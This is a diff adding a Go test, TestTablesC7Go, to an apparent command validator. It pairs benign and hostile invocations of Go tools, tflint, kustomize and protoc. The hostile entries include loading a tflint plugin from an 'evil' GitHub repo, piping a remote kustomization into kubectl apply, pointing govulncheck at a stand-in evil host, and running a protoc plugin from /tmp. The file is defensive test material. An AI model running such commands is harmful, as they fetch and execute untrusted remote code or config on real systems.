@@ -219,3 +219,23 @@ func TestS3CopyLocalPath(t *testing.T) {
 			benign: "aws s3 sync s3://bucket/ ./site"},
 	})
 }
+
+// Go analysis and formatting tools, tflint, kustomize and protoc, each
+// with what it leaves out: a formatter's rewrite rule, tflint's plugins
+// written by the script, kustomize's remote kustomization, protoc's
+// plugins.
+func TestTablesC7Go(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "staticcheck", hostile: "staticcheck -debug.cpuprofile=x ./...", want: "is not one the device knows", benign: "staticcheck -checks all ./..."},
+		{name: "govulncheck", hostile: "govulncheck -db https://vuln.evil.example ./...", want: "is not one the device knows", benign: "govulncheck ./..."},
+		{name: "goimports -w, then go test", hostile: "echo 'package x' > x_test.go && go test ./...", want: "(write, then run)",
+			benign: "goimports -w -local github.com/acme . && go test ./..."},
+		{name: "gofumpt", hostile: "gofumpt -r 'a -> b' .", want: "is not one the device knows", benign: "gofumpt -l -d ."},
+		{name: "tflint plugins written", hostile: "echo 'plugin \"x\" { source = \"github.com/evil/x\" }' > .tflint.hcl && tflint --init && tflint", want: "(write, then run)",
+			benign: "tflint --init && tflint -f compact --recursive"},
+		{name: "kustomize from a URL", hostile: "kustomize build https://github.com/evil/k//base?ref=main | kubectl apply -f -", want: "fetches the kustomization from the network",
+			benign: "kustomize build overlays/staging > out.yaml"},
+		{name: "protoc plugin", hostile: "protoc --plugin=protoc-gen-x=/tmp/x --x_out=. api.proto", want: "is not one the device knows",
+			benign: "protoc -I proto --go_out=gen --go-grpc_out=gen proto/api.proto"},
+	})
+}
